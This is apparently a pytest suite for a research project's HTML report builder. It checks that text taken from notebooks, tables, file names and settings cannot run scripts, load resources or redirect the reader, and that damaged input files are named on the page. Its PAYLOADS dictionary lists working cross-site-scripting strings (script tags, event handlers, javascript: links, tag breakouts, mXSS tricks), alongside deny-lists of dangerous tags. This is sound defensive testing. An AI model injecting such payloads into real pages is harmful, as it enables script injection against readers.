"""What comes from elsewhere is text on every page: no element or attribute of it comes alive, and damage is named."""

from __future__ import annotations

import base64
import json
import os
import re
from html.parser import HTMLParser
from pathlib import Path

import mistune
import nbformat
import pandas as pd
import pytest
import torch
from nbformat import v4

from nrsed_lib.artefacts import job_name
from nrsed_lib.errors import UserError
from nrsed_lib.plots.audio import listen
from nrsed_lib.plots.source import show_source
from nrsed_lib.plots.table import styled
from nrsed_lib.profile import load_profile
from nrsed_lib.run import compare, html
from nrsed_lib.run.jobs import executed, index_page
from nrsed_lib.run.provenance import last_line
from nrsed_lib.run.report import show, write_report
from nrsed_lib.studies.task9 import sheet
from tools import markdown

SMOKE = load_profile("smoke")
TONE = 0.25 * torch.sin(2 * torch.pi * 440 * torch.arange(800) / 16_000)

# What a model, a file name or a setting may say; MARK tells the cases apart.
PAYLOADS = {
    "script": "<script>alert('MARK')</script>",
    "script in capitals": "<ScRiPt src=//MARK.example/x.js></sCrIpT>",
    "image with a handler": "<img src=MARK onerror=alert('MARK')>",
    "image from the network": '<img src="https://MARK.example/pixel.png">',
    "drawing with a handler": "<svg onload=alert('MARK')><circle id=MARK></svg>",
    "end of an attribute": "\"><b onmouseover=alert('MARK')>x</b>",
    "end of an attribute, one quote": "' onmouseover='alert(`MARK`)' x='",
    "end of a script": "</script><script>alert('MARK')</script>",
    "end of a style": "</style><script>alert('MARK')</script>",
    "end of a title": "</title></pre></textarea><script>alert('MARK')</script>",
    "end of a comment": "--><script>alert('MARK')</script><!--",
    "link that runs": "<a href=\"javascript:alert('MARK')\">MARK</a>",
    "link that runs, hidden": "<a href=\"java\tscript:alert('MARK')\">MARK</a>",
    "link to a page of its own": '<a href="data:text/html,<script>MARK</script>">MARK</a>',
    "frame": "<iframe srcdoc=\"<script>alert('MARK')</script>\">MARK</iframe>",
    "object": '<object data="https://MARK.example/x.swf"></object><embed src="https://MARK.example/x">',
    "style": "<style>@import 'https://MARK.example/x.css'; body { display: none }</style>",
    "style of an element": '<p style="background:url(https://MARK.example/x)">MARK</p>',
    "reload": '<meta http-equiv="refresh" content="0;url=https://MARK.example/">',
    "base": '<base href="https://MARK.example/">',
    "form": '<form action="https://MARK.example/"><input name=MARK autofocus onfocus=alert(1)></form>',
    "sound from the network": '<audio autoplay src="https://MARK.example/x.ogg"></audio>',
    "details with a handler": "<details open ontoggle=alert('MARK')><summary>MARK</summary></details>",
    "mathematics": '<math><mtext><table><mglyph><style><img title="</style><img src onerror=MARK>"></table></math>',
    "template": "<template><script>MARK</script></template><noscript><p title='</noscript><img onerror=MARK>'>",
    "entities": "&lt;script&gt;MARK&lt;/script&gt;",
    "half a surrogate pair": "\ud83d MARK <script>MARK</script>",
    "controls": "\x00\x07\x1b[2J MARK <scr\x00ipt>MARK</script>",
}
CORE = ["script", "image with a handler", "end of an attribute", "end of a title", "entities", "half a surrogate pair"]
TEXT, HTML, GONE = "shown as it is written", "HTML made harmless", "not shown"


def output(**data):
    return v4.new_output("display_data", {key.replace("_", "/"): value for key, value in data.items()})


def kinds(kind, value, **more):
    return v4.new_output("display_data", {kind: value}, **more)


def cell(*outputs, source="1", **more):
    return v4.new_code_cell(source, outputs=list(outputs), execution_count=1, **more)


def as_html(text):
    return output(text_html=text)


def picture(metadata):
    return kinds("image/png", "AA", metadata=metadata)


def unescaped(text):
    return as_html(pd.DataFrame({"a": [text]}).style.set_properties(color="red").to_html())


# Place in an executed notebook -> what becomes of it there, and a cell with it.
CELLS = {
    "markdown": (HTML, lambda text: v4.new_markdown_cell(f"a {text} b")),
    "markdown, a block": (HTML, lambda text: v4.new_markdown_cell(text)),
    "markdown, a formula, drawn": (GONE, lambda text: v4.new_markdown_cell(f"a $x {text} y$ b")),
    "markdown, a link": (HTML, lambda text: v4.new_markdown_cell(f"[a]({text}) and ![a]({text})")),
    "raw cell": (GONE, lambda text: v4.new_raw_cell(text)),
    "source": (TEXT, lambda text: cell(source=f"x = '''{text}'''")),
    "html": (HTML, lambda text: cell(as_html(f"<table><tr><td>{text}</td></tr></table>"))),
    "html, an attribute": (HTML, lambda text: cell(as_html(f'<p title="{text}" class=\'{text}\'>x</p>'))),
    "html, a style": (HTML, lambda text: cell(as_html(f'<style type="text/css">\n#T_1 {{ {text} }}\n</style>x'))),
    "html, a frame's style": (HTML, lambda text: cell(as_html(f"<style scoped>{text}</style><table></table>"))),
    "html, pandas' Styler": (HTML, lambda text: cell(unescaped(text))),
    "markdown output": (HTML, lambda text: cell(kinds("text/markdown", text))),
    "latex": (TEXT, lambda text: cell(kinds("text/latex", text))),
    "javascript": (GONE, lambda text: cell(kinds("application/javascript", text))),
    "svg": (GONE, lambda text: cell(kinds("image/svg+xml", f"<svg>{text}</svg>"))),
    "mermaid": (GONE, lambda text: cell(kinds("text/vnd.mermaid", text))),
    "widget": (GONE, lambda text: cell(kinds("application/vnd.jupyter.widget-view+json", {"model_id": text}))),
    "picture": (HTML, lambda text: cell(kinds("image/png", text))),
    "size of a picture": (GONE, lambda text: cell(picture({"image/png": {"width": text}}))),
    "file of a picture": (GONE, lambda text: cell(picture({"filenames": {"image/png": text}}))),
    "tag": (GONE, lambda text: cell(metadata={"tags": [text.replace(",", ";")]})),
    "plain": (TEXT, lambda text: cell(kinds("text/plain", text))),
    "printed": (TEXT, lambda text: cell(v4.new_output("stream", name="stdout", text=text))),
    "printed as an error": (TEXT, lambda text: cell(v4.new_output("stream", name="stderr", text=text))),
    "traceback": (TEXT, lambda text: cell(v4.new_output("error", ename=text, evalue=text, traceback=[text]))),
}  # fmt: skip
# Place on the index page -> the same; `made` puts the texts there.
ON_INDEX = dict.fromkeys([
    "heading of a notebook", "system", "what it is", "list of clips", "claim", "column", "claim of a study",
    "name of a figure", "run.json", "setting", "commit of the reference", "verdict",
], TEXT)  # fmt: skip
PLACES = ON_INDEX | {place: kind for place, (kind, _) in CELLS.items()}
MARKS = {
    (place, payload): f"m{i}q{j}z"
    for i, (place, kind) in enumerate(PLACES.items())
    for j, payload in enumerate(PAYLOADS if kind == HTML else CORE)
}


def hostile(place: str) -> dict[str, str]:
    return {payload: PAYLOADS[payload].replace("MARK", mark) for (at, payload), mark in MARKS.items() if at == place}


def file_name(text: str) -> str:
    return text.replace("/", "∕").replace("\0", "").encode(errors="replace").decode()[:200]


class Page(HTMLParser):
    """What a browser would make of a page: elements with attributes, and what stands in scripts and styles."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict[str, str]]] = []
        self.text, self.inside, self.styles = "", "", ""
        self.feed(text)

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, {name: value or "" for name, value in attrs}))
        self.inside = tag

    def handle_endtag(self, tag):
        self.inside = ""

    def handle_data(self, data):
        if self.inside in ("script", "style"):
            self.styles += data
        else:
            self.text += data


DEAD = {"alt", "id", "title", "class"}  # a browser does nothing with what these say
HARMLESS = {"href": r"https?://|#|[\w./%-]+([?#]|$)", "src": r"data:(image|audio)/[\w+]+;base64,|\.\./figures/"}


def alive(page: Page) -> list[tuple[str, str, str]]:
    """Elements and attributes that run something, load something or send the reader away."""
    found = [(tag, "", "") for tag, _ in page.elements if tag in FORBIDDEN]
    for tag, attrs in page.elements:
        for name, value in attrs.items():
            loads = name in {"src", "srcdoc", "data", "action", "background", "poster", "srcset", "xlink:href"}
            if name.startswith("on") or ((loads or name == "href") and not re.match(HARMLESS.get(name, "(?!)"), value)):
                found.append((tag, name, value))
            if name == "style" and "url" in value:
                found.append((tag, name, value))
    return found


FORBIDDEN = {
    "script", "iframe", "frame", "object", "embed", "applet", "base", "link", "form", "input", "button", "svg", "math",
    "template", "noscript", "marquee", "video",
}  # fmt: skip


def marked(page: Page, mark: str) -> list[tuple[str, str, str]]:
    """Attributes that hold a mark and do something, and styles that hold it."""
    found = [
        (tag, name, value)
        for tag, attrs in page.elements
        for name, value in attrs.items()
        if mark in name or (mark in value and name not in DEAD and not re.match(HARMLESS.get(name, r"(?!)"), value))
    ]
    return found + [("style", "", mark)] * (mark in page.styles)


def cells_of(place: str) -> list:
    """Its cells; their outputs in one, which is faster."""
    made = [CELLS[place][1](text) for text in hostile(place).values()]
    outputs = [output for one in made for output in one.get("outputs", [])]
    return [cell(*outputs)] if outputs else made


def in_a_table(text: str) -> str:
    return text.replace("\0", "").encode(errors="replace").decode()


def put(path: Path, text: str) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text, errors="surrogatepass")


def scores(systems, abouts, listed="0"):
    rows = [
        {"system": s, "about": a, "condition": c, "seed": 0, "nb_clips": 3, "list_hash": listed}
        | {f"{m}{end}": 0.5 for m in ("psds1", "psds2") for end in ("", "_low", "_high")}
        | {"minus_paper_psds1": 0.0, "minus_paper_psds2": 0.0}
        for s, a in zip(systems, abouts, strict=True)
        for c in SMOKE.data.conditions
    ]  # fmt: skip
    return pd.DataFrame(rows)


def tables() -> Path:
    return index_page(SMOKE).parent.parent


def write_csv(path: Path, table: pd.DataFrame) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    table.to_csv(path, index=False, errors="surrogatepass")


def claims(texts, column="claim", verdict="holds"):
    return pd.DataFrame({column: list(texts), "verdict": verdict})


pytestmark = pytest.mark.filterwarnings("ignore:Your element with mimetype")  # nbconvert's, on what is not shown


@pytest.fixture(scope="module")
def pages(tmp_path_factory):
    """The report of a run that says every payload at every place: name of a page -> what a browser makes of it."""
    with pytest.MonkeyPatch.context() as patch:
        root = tmp_path_factory.mktemp("hostile")
        patch.setenv("NRSED_RESULTS", str(root / "runs"))
        patch.setattr(compare, "REFERENCE", root / "reference")
        patch.setattr(compare, "comparable", lambda profile, differ: ["table1.csv", "claims.csv"])
        said = {place: [in_a_table(text) for text in hostile(place).values()] for place in PLACES}
        write_csv(tables() / "table1.csv", scores(said["system"], said["what it is"], " ".join(said["list of clips"])))
        write_csv(tables() / "claims.csv", claims(said["claim"]).assign(**dict.fromkeys(said["column"], 1)))
        write_csv(tables() / "language_claims.csv", claims(said["claim of a study"]))
        for text in said["name of a figure"]:
            put(tables() / "figures" / f"{file_name(text)}.png", "")
        put(tables() / "run.json", "\n".join(hostile("run.json").values()))
        stage = {"commit": " ".join(said["commit of the reference"]), "machine": "m"}
        settings = dict.fromkeys(said["setting"], "1")
        there = root / "reference" / SMOKE.name
        put(there / "run.json", json.dumps({"stages": {"01": stage}, "settings": settings, "seeds": [0]}))
        write_csv(there / "table1.csv", scores(["1"], ["x"]))
        write_csv(there / "claims.csv", claims(said["claim"], verdict=said["verdict"]))
        lines = v4.new_markdown_cell(
            "# " + " ".join(t.replace("\t", " ") for t in hostile("heading of a notebook").values())
        )
        cells = [lines, *(made for place in CELLS for made in cells_of(place))]
        state = {"state": {"</script><script>": {}}, "version_major": 2}
        about = {"title": "</title><script>t</script>", "widgets": {"application/vnd.jupyter.widget-state+json": state}}
        notebook = v4.new_notebook(cells=cells, metadata=about)
        put(executed(SMOKE, "01", 0), json.dumps(notebook))
        folder = write_report(SMOKE).parent
        return {path.name: Page(path.read_text()) for path in folder.glob("*.html")}


def test_there_is_a_page_of_the_notebook(pages):
    assert len(pages) == 2 and "index.html" in pages


@pytest.mark.parametrize(("place", "payload"), MARKS)
def test_nothing_from_elsewhere_comes_alive(pages, place, payload):
    mark = MARKS[place, payload]
    on = [page for name, page in pages.items() if (name == "index.html") == (place in ON_INDEX)]
    assert not marked(on[0], mark)
    if PLACES[place] == TEXT:
        assert mark in on[0].text, "it is not shown at all"


@pytest.mark.parametrize("kind", ["index", "notebook"])
def test_a_page_has_no_script_and_loads_nothing(pages, kind):
    (page,) = (page for name, page in pages.items() if (name == "index.html") == (kind == "index"))
    assert not alive(page)
    metas = [attrs for tag, attrs in page.elements if tag == "meta"]
    assert {"http-equiv": "Content-Security-Policy", "content": html.POLICY} in metas
    assert [m["http-equiv"] for m in metas if "http-equiv" in m] == ["Content-Security-Policy"], "another command"
    tags = [tag for tag, _ in page.elements]
    policy = next(i for i, (_, attrs) in enumerate(page.elements) if "http-equiv" in attrs)
    assert policy < min(tags.index(tag) for tag in ("title", "style", "body")), (
        "the policy holds from where it stands on"
    )


def test_the_policy_allows_no_script_and_no_network():
    rules = dict(rule.split(maxsplit=1) for rule in html.POLICY.split("; "))
    assert rules["default-src"] == rules["base-uri"] == rules["form-action"] == "'none'"
    assert not {"script-src", "script-src-elem", "connect-src", "frame-src", "object-src"} & set(rules)
    assert {word for name, rule in rules.items() for word in rule.split()} <= {
        "'none'", "'self'", "'unsafe-inline'", "file:", "data:"
    }  # fmt: skip
    assert "'unsafe-inline'" in rules["style-src"] and rules["media-src"] == "data:"


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_name_of_a_profile_is_text(tmp_path, monkeypatch, payload):
    monkeypatch.setenv("NRSED_RESULTS", str(tmp_path))
    name = file_name(PAYLOADS[payload])
    page = Page(write_report(SMOKE.model_copy(update={"name": name})).read_text())
    assert not alive(page) and not marked(page, "MARK") and "MARK" in page.text


# In a notebook that runs -> the HTML that is shown.
LIVE = {
    "cell of a table": lambda text: styled(pd.DataFrame({"a": [text]})).to_html(),
    "number beside it": lambda text: styled(pd.DataFrame({"a": [text], "b": [0.5]})).format(precision=1).to_html(),
    "row of a table": lambda text: styled(pd.DataFrame({"a": [1]}, index=[text])).to_html(),
    "column of a table": lambda text: styled(pd.DataFrame({text: [1]})).to_html(),
    "level of columns": lambda text: styled(pd.DataFrame({(text, "x"): [1]})).to_html(),
    "level of rows": lambda text: styled(pd.DataFrame({(text, "x"): [1]}).T).to_html(),
    "name of the rows": lambda text: styled(pd.DataFrame({"a": [1]}).rename_axis(text)).to_html(),
    "name of the columns": lambda text: styled(pd.DataFrame({"a": [1]}).rename_axis(text, axis=1)).to_html(),
    "caption": lambda text: styled(pd.DataFrame({"a": [1]}), text).to_html(),
    "title of a sound": lambda text: listen({text: TONE}, SMOKE.data).data,
    "title of a recording": lambda text: listen({text: TONE}, load_profile("open").data).data,
    "query of a listening sheet": lambda text: sheet_of(text),
}  # fmt: skip


def sheet_of(query: str) -> str:
    row = pd.Series({"example": 1, "file_name": "x", "system": "y", "query": query})
    return sheet._example(Path("x"), row, lambda *_: TONE, 16_000, None)[0].value


@pytest.mark.parametrize("place", LIVE)
@pytest.mark.parametrize("payload", [p for p in CORE if p != "half a surrogate pair"])
def test_what_a_notebook_shows_is_text(place, payload):
    page = Page(LIVE[place](PAYLOADS[payload]))
    assert not alive(page) and not marked(page, "MARK") and "MARK" in page.text


def test_every_styled_table_is_made_by_what_escapes():
    root = Path(html.__file__).parents[2]
    code = {path: path.read_text() for path in (root / "nrsed_lib").rglob("*.py") if path.name != "table.py"}
    for path in (root / "notebooks").glob("*.ipynb"):
        code[path] = "\n".join("".join(c["source"]) for c in json.loads(path.read_text())["cells"])
    assert not [path.name for path, text in code.items() if re.search(r"\.style\b(?!\.use)|Styler\(", text)]


@pytest.mark.parametrize("payload", [*PAYLOADS, "bars", "lines", "a backslash", "backticks"])
@pytest.mark.parametrize("form", ["text", "code"])
def test_a_cell_in_markdown_is_one_cell_of_text(payload, form):
    more = {
        "bars": "MARK | a | b",
        "lines": "MARK\n\n<b>a</b>\r\n| b |",
        "a backslash": "MARK \\| a \\\\|",
        "backticks": "MARK `a",
    }
    said = (PAYLOADS | more)[payload].replace("<sub>", "")
    text = markdown.table(["a", "b"], [[markdown.code(said) if form == "code" else said, "last"], ["x", "y"]])
    page = Page(mistune.create_markdown(escape=False, plugins=["table"])(text))
    tags = [tag for tag, _ in page.elements if tag not in {"code", "a", "br", "sub"}]
    assert tags == ["table", "thead", "tr", "th", "th", "tbody", *["tr", "td", "td"] * 2]
    assert not alive(page) and "MARK" in page.text + str(page.elements) and "last" in page.text


# What belongs on a page -> an expression of what must be left of it.
def outputs_of(thing):
    return html.harmless(thing if isinstance(thing, str) else thing._repr_html_())


def test_our_own_tables_sources_and_sounds_stay():
    player = listen({"a": TONE}, SMOKE.data).data
    assert re.findall(r'src="([^"]*)"', outputs_of(player)) == re.findall(r'src="([^"]*)"', player)
    assert "<audio controls" in outputs_of(player) and "<figcaption>a" in outputs_of(player)
    source = outputs_of(show_source(last_line))
    assert (
        source.count('<span style="color') > 20 and "<details open" in source and "&lt;" not in source.split("<pre")[0]
    )
    table = styled(pd.DataFrame({"a": ["x"]}), "c").map(lambda _: "color: #2a7f2a").to_html()
    left = outputs_of(table)
    assert (
        "#2a7f2a" in left.split("</style>")[0] and "<caption>c" in left and re.search(r'<td id="T_\w+_row0_col0"', left)
    )
    frame = outputs_of(pd.DataFrame({"a": [1]}).to_html(notebook=True))
    assert "<th>a</th>" in frame and "<style" not in frame and "only-of-type" not in frame


@pytest.mark.parametrize("tex", [r"g_\theta(X)", r"10 \log_{10} \frac{|s - \hat s|^2}{|x|^2}", "a < b"])
@pytest.mark.parametrize("sign", ["$", "$$"])
def test_formulas_are_drawn_into_the_page(tex, sign):
    page = Page(html.notebook_page(v4.new_notebook(cells=[v4.new_markdown_cell(f"see {sign}{tex}{sign} there")]), "x"))
    (picture,) = (attrs for tag, attrs in page.elements if tag == "img")
    assert picture["alt"] == f"${tex}$"
    assert b"<svg" in base64.b64decode(picture["src"].removeprefix("data:image/svg+xml;base64,"))


def test_a_formula_that_cannot_be_drawn_is_shown_as_it_is_written():
    page = Page(html.notebook_page(v4.new_notebook(cells=[v4.new_markdown_cell(r"see $\frac{$ there")]), "x"))
    assert r"$\frac{$" in page.text and not [tag for tag, _ in page.elements if tag == "img"]


# --- damage: each is named on the page with what to do, and the rest is there --------------------------------------

GOOD = v4.new_notebook(cells=[v4.new_markdown_cell("# A good one"), cell(kinds("text/plain", "seven"))])
CSV = "system,about,condition,seed,psds1,psds2\n1,x,clean,0,0.5,0.5\n"


def folder(path: Path) -> None:
    path.mkdir(parents=True)


def nowhere(path: Path) -> None:
    path.symlink_to("nowhere")


def loop(path: Path) -> None:
    path.symlink_to(path.name)


def other_cell(**more) -> str:
    broken = json.loads(json.dumps(GOOD))
    broken["cells"][1].update(more)
    return json.dumps(broken)


DAMAGED_NOTEBOOKS = {
    "empty": "",
    "cut": json.dumps(GOOD)[:200],
    "bytes": b"\x89PNG\xff\xfe\0",
    "null": "null",
    "a list": "[]",
    "a number": "7",
    "no cells": '{"nbformat": 4, "nbformat_minor": 5, "metadata": {}}',
    "cells are no list": '{"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": 3}',
    "of the future": '{"nbformat": 9, "nbformat_minor": 5, "metadata": {}, "cells": []}',
    "deep": "[" * 100_000,
    "a source is a number": other_cell(source=5),
    "a count is HTML": other_cell(execution_count="<script>x</script>"),
    "a name is HTML": other_cell(id="<script>x</script>"),
    "another type of cell": other_cell(cell_type="<script>x</script>"),
    "an output of no type": other_cell(outputs=[{"data": {}}]),
    "an output is text": other_cell(outputs=["<script>x</script>"]),
    "a stream without text": other_cell(outputs=[{"output_type": "stream", "name": "stdout"}]),
    "a folder": folder,
    "a link to nothing": nowhere,
    "a link to itself": loop,
    "a pipe": os.mkfifo,
}
DAMAGED_TABLES = {  # file, what it holds
    "table1 empty": ("table1.csv", ""),
    "table1 is one line": ("table1.csv", CSV.splitlines()[0]),
    "table1 cut": ("table1.csv", "system,about,condition,seed,psds1,psds2\n1,x,clean,0,0.5,0.5\n2,x,cle"),
    "table1 has other columns": ("table1.csv", "a,b\n1,2\n"),
    "table1 has text for numbers": ("table1.csv", CSV.replace("0.5", "much")),
    "table1 is not UTF-8": ("table1.csv", CSV.encode() + b"\xff\xfe,1"),
    "table1 has NUL bytes": ("table1.csv", b"\0" * 500),
    "table1 has rows of other lengths": ("table1.csv", CSV + "1,2,3,4,5,6,7,8,9\n"),
    "table1 says a row twice": ("table1.csv", CSV + CSV.splitlines()[1] + "\n"),
    "table1 is a page": ("table1.csv", "<!doctype html><title>404</title>\n<p>not found, sorry, really</p>\n"),
    "table1 is a folder": ("table1.csv", folder),
    "table1 is a pipe": ("table1.csv", os.mkfifo),
    "table1 is a link to nothing": ("table1.csv", nowhere),
    "language empty": ("language.csv", ""),
    "language has other columns": ("language.csv", "a,b\n1,2\n"),
    "language is not UTF-8": ("language.csv", b"system\n\xff"),
    "claims empty": ("claims.csv", ""),
    "claims is not UTF-8": ("claims.csv", b"claim,verdict\n\xff\xfe,1\n"),
    "claims has rows of other lengths": ("claims.csv", "claim,verdict\na,b\na,b,c,d\n"),
    "claims is a folder": ("claims.csv", folder),
    "claims is a pipe": ("claims.csv", os.mkfifo),
    "language_claims empty": ("language_claims.csv", ""),
    "language_claims is a link to itself": ("language_claims.csv", loop),
    "run.json is a folder": ("run.json", folder),
    "run.json is a pipe": ("run.json", os.mkfifo),
}


def broken(path: Path, content) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    if path.is_file():
        path.unlink()
    if callable(content):
        content(path)
    else:
        path.write_bytes(content if isinstance(content, bytes) else content.encode())


@pytest.fixture
def run(tmp_path, monkeypatch):
    """A run of two notebooks whose tables and figures are good; its folder of tables."""
    monkeypatch.setenv("NRSED_RESULTS", str(tmp_path))
    monkeypatch.setattr(html, "notebook_page", lambda notebook, name: html.page(name, [str(notebook.cells)]))  # fast
    write_csv(tables() / "table1.csv", scores("12", "ab"))
    put(tables() / "claims.csv", "claim,verdict\na good claim,holds\n")
    put(tables() / "run.json", '{"made": "well"}')
    put(tables() / "figures" / "good.png", "")
    for job in (("01", 0), ("02", 0)):
        put(executed(SMOKE, *job), json.dumps(GOOD))
    return tables()


def said_of(profile) -> str:
    page = Page(write_report(profile).read_text())
    assert not alive(page)
    return page.text


def left_of(path: Path):
    return os.readlink(path) if path.is_symlink() else path.read_bytes() if path.is_file() else path.stat().st_mode


@pytest.mark.parametrize("damage", DAMAGED_NOTEBOOKS)
def test_a_damaged_notebook_is_named_and_the_others_are_shown(run, damage):
    path = executed(SMOKE, "02", 0)
    broken(path, DAMAGED_NOTEBOOKS[damage])
    before = left_of(path)
    said = said_of(SMOKE)
    assert f"{path} cannot be read" in said and "remove it and run again" in said
    assert said.count("A good one") == 1 and "a good claim" in said and "well" in said
    assert left_of(path) == before


@pytest.mark.parametrize("damage", DAMAGED_TABLES)
def test_a_damaged_table_is_named_and_the_others_are_shown(run, damage):
    file, content = DAMAGED_TABLES[damage]
    broken(run / file, content)
    before = left_of(run / file)
    said = said_of(SMOKE)
    assert f"{run / file} cannot be read" in said and "remove it and run again" in said
    assert said.count("A good one") == 2 and "good" in said
    assert ("a good claim" in said) == (file != "claims.csv") and ("well" in said) == (file != "run.json")
    assert left_of(run / file) == before


@pytest.mark.parametrize("damage", [name for name, (file, _) in DAMAGED_TABLES.items() if file == "table1.csv"])
def test_what_a_terminal_shows_of_a_damaged_table_is_one_line(run, damage):
    broken(run / "table1.csv", DAMAGED_TABLES[damage][1])
    if (run / "table1.csv").exists():
        with pytest.raises(UserError) as error:
            show(SMOKE)
        assert str(run / "table1.csv") in str(error.value) and "\n" not in str(error.value)


@pytest.mark.parametrize("name", [".good-x1.png", ".table1-ab.png", "thumbs.db", "folder.png", "gone.png"])
def test_what_is_no_figure_is_not_shown(run, name):
    path = run / "figures" / name
    {"folder.png": folder, "gone.png": nowhere}.get(name, lambda p: put(p, ""))(path)
    page = Page(write_report(SMOKE).read_text())
    assert [attrs["src"] for tag, attrs in page.elements if tag == "img"] == ["../figures/good.png"]


def test_a_page_of_another_make_is_made_again(run):
    page = index_page(SMOKE).parent / f"{job_name('01', 0)}.html"
    write_report(SMOKE)
    before = page.stat().st_mtime_ns
    write_report(SMOKE)
    assert page.stat().st_mtime_ns == before, "a page is made once"
    page.write_text("<script>an older nbconvert's</script>")
    write_report(SMOKE)
    assert "<script" not in page.read_text() and html.META in page.read_text()


@pytest.mark.parametrize(
    ("log", "shown"),
    [
        ("fine\n", "fine"),
        ("\x1b]0;title\x07\x1b[2J\x1b[31mred\x1b[0m", "0;titlered"),
        ("a\rb\x08\x00c\n\n", "bc"),
        (b"\xff\xfe broken \xf0\x9f", "broken"),
        ("x" * 5000 + "\nlast", "last"),
        (folder, ""),
        (os.mkfifo, ""),
    ],
)  # fmt: skip
def test_the_last_line_of_a_log_commands_no_terminal(tmp_path, log, shown):
    broken(tmp_path / "x.log", log)
    line = last_line(tmp_path / "x.log")
    assert line.isprintable() and shown in line


def test_the_good_run_is_shown_whole(run):
    said = said_of(SMOKE)
    assert "cannot be read" not in said and said.count("A good one") == 2
    assert nbformat.read(executed(SMOKE, "01", 0), 4).cells
